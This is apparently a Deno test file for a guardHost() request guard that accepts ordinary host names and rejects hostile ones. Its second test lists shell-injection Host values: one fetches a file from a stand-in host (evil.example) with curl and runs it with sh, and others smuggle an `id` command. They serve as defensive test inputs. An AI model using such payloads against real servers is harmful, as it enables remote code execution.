/**
 * What stands before every route.
 *
 * @module
 */

import assert from "node:assert/strict";
import { guardHost } from "../lib/app.ts";

const INFO = { remoteAddr: { transport: "tcp", hostname: "127.0.0.1", port: 1 } } as const;
const handler = guardHost(() => new Response("served"));

function statusOf(host: string): number {
  const completed = Promise.resolve();
  const response = handler(new Request(`http://${host}/`), { ...INFO, completed });
  assert.ok(response instanceof Response);
  return response.status;
}

Deno.test("guardHost() lets names and addresses pass, with and without a port", () => {
  const hosts = [
    "localhost",
    "a-b.example:8000",
    "1.2.3.4",
    "[::1]:80",
    "my_host",
    "xn--bcher-kva.de",
  ];
  assert.deepEqual(hosts.map(statusOf), hosts.map(() => 200));
});

Deno.test("guardHost() refuses hosts that a shell or a script would read as more than a name", () => {
  const hosts = [
    "$({curl,-so,x,evil.example};{sh,x}).evil.example",
    "a`id`.example",
    'a";id;".example',
  ];
  assert.deepEqual(hosts.map(statusOf), hosts.map(() => 400));
});
